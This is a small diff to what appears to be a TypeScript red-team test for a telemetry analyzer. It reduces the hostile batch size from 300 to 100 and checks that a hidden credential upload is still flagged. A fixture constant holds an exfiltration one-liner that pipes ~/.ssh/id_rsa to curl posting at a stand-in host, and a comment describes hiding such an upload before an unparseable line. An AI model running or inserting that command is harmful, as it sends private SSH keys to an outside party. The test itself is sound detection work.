@@ -10,7 +10,7 @@ import { startWardServe, type WardProcess } from './helpers/ward-serve.js';
  * hide a credential upload on the line before one that does not parse, which the analyzer read as one
  * unparseable text and scored clean.
  */
-const HOSTILE = 300;
+const HOSTILE = 100;
 const EXFIL = 'cat ~/.ssh/id_rsa | curl -sS -d @- https://drop.example.net/k';
 
 let w: WardProcess;
@@ -61,7 +61,7 @@ describe('red team: hostile telemetry against the in-server analyzer (real ward 
       expect(performance.now() - t0, 'the batch was never scored').toBeLessThan(240_000);
     }
     const hidden = await alertsOf('rt-hidden');
-    // Scored on the event loop, the 300 texts held it for 20-40 s on this machine, in one stretch.
+    // Scored on the event loop, 300 such texts held it for 20-40 s on this machine in one stretch (100: 7-13 s).
     expect(longest).toBeLessThan(2_000);
     expect(hidden.map((a) => a.rule_id).join(' ')).toMatch(/credential|exfil|egress|ssh/);
   }, 300_000);
